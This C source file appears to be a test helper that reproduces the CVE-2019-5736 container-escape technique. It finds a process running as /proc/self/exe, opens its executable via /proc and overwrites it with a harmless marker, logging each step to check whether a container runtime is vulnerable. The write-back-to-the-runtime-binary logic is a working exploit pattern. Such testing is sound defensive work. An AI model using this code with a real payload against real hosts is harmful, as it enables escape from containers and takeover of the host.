/*
 * CVE-2019-5736 shape, run inside a container by test_exe_overwrite.py.
 *
 * Waits for a process of its pid namespace whose argv[0] is "/proc/self/exe"
 * (the kernel runs `#!/proc/self/exe` scripts so), opens that process's
 * /proc/PID/exe with O_PATH, and once the process is gone reopens the file
 * through /proc/self/fd/N for writing and writes a marker at its start.
 * Every step is appended to the report file (argv[1]); the last line is
 * "result wrote", "result open-failed ERRNO", "result write-failed ERRNO" or
 * "result no-target".  Every wait is bounded.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char *report_path;

static void report(const char *fmt, ...)
{
	char line[512];
	va_list ap;
	int fd, n;

	va_start(ap, fmt);
	n = vsnprintf(line, sizeof(line) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof(line) - 2)
		n = (int)sizeof(line) - 2;
	line[n++] = '\n';
	fd = open(report_path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (fd < 0)
		return;
	if (write(fd, line, (size_t)n) < 0)
		n = 0;
	close(fd);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Opens /proc/PID/exe (O_PATH) of a process whose argv[0] is /proc/self/exe. */
static int find_target(int *ret_pid)
{
	struct dirent *de;
	DIR *d = opendir("/proc");
	int found = -1;

	if (!d)
		return -1;
	while (found < 0 && (de = readdir(d))) {
		char path[64], buf[64];
		int pid = atoi(de->d_name), fd;
		ssize_t n;

		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n <= 0)
			continue;
		buf[n] = '\0';
		if (strcmp(buf, "/proc/self/exe") != 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		found = open(path, O_PATH | O_CLOEXEC);
		if (found < 0)
			report("open-exe-failed %d %s", pid, strerror(errno));
		else
			*ret_pid = pid;
	}
	closedir(d);
	return found;
}

int main(int argc, char **argv)
{
	double deadline;
	char path[64], target[256];
	int exe = -1, w = -1, pid = 0, err = 0;
	ssize_t n;

	if (argc < 2)
		return 2;
	report_path = argv[1];
	report("ready");
	deadline = now() + 120;
	while (exe < 0) {
		if (now() > deadline) {
			report("result no-target");
			return 1;
		}
		exe = find_target(&pid);
		if (exe < 0)
			sched_yield();
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	n = readlink(path, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = '\0';
	report("found %d %s", pid, target);

	/* ETXTBSY while the target runs: retry until it is gone (bounded) */
	deadline = now() + 20;
	for (;;) {
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w >= 0 || errno != ETXTBSY || now() > deadline)
			break;
		usleep(1000);
	}
	if (w < 0) {
		err = errno;
		report("result open-failed %s", strerror(err));
		return 0;
	}
	report("opened-for-write");
	if (pwrite(w, "HULL-EXE-OVERWRITTEN", 20, 0) != 20) {
		err = errno;
		report("result write-failed %s", strerror(err));
		return 0;
	}
	report("result wrote");
	return 0;
}
